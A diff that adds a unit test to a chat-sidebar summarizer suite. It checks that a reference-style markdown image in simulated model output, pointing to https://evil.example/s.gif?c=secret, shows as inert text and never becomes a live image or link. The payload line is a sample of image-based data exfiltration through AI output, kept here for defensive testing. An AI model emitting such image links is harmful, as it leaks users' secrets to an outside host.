@@ -37,6 +37,23 @@ describe('citations in a catch-up', () => {
     expect(byTestId(container, 'citation-note')).toBeNull();
   });
 
+  it('resolves a reference-style link or image whose definition sits in another point, still as inert text', async () => {
+    const { container, api, frames } = await mountSidebar();
+    await click(getByTestId(container, 'action-summarize'));
+    await act(() => {
+      api.lastTask.start({ ...START, references: REFERENCES });
+      api.lastTask.delta('- Hike on Saturday [m1]\n\n![status][r]\n\n[r]: https://evil.example/s.gif?c=secret');
+      api.lastTask.end();
+    });
+    await frames.flush();
+    await settle();
+    const output = getByTestId(container, 'output');
+    expect(output.textContent).toContain('[image: status — https://evil.example/s.gif?c=secret]');
+    // The definition line itself is consumed, not shown a second time.
+    expect(output.textContent).not.toContain('[r]:');
+    expect(output.querySelector('img, a[href]')).toBeNull();
+  });
+
   it('says so when the cited message is no longer loaded in the chat', async () => {
     const { container, api, frames } = await mountSidebar({
       setup: (fake) => fake.on('ui->background:scroll-to-message', () => ({ found: false })),
